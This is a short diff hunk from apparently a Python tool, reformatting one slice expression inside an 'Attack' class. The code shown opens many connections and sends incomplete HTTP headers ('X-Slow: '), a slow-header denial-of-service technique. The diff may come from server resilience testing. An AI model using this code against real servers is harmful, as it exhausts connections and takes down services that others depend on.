@@ -339,7 +339,7 @@ class Attack:
     def _attack(self):
         with ExitStack() as stack:
             wires = [stack.enter_context(Wire(self.url, receive_buffer=4096)) for _ in range(3 * self.each)]
-            heads, bodies, readers = (wires[kind :: 3] for kind in range(3))
+            heads, bodies, readers = (wires[kind::3] for kind in range(3))
             for wire in heads:
                 wire.send_if_open(b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ")
             for wire in bodies:
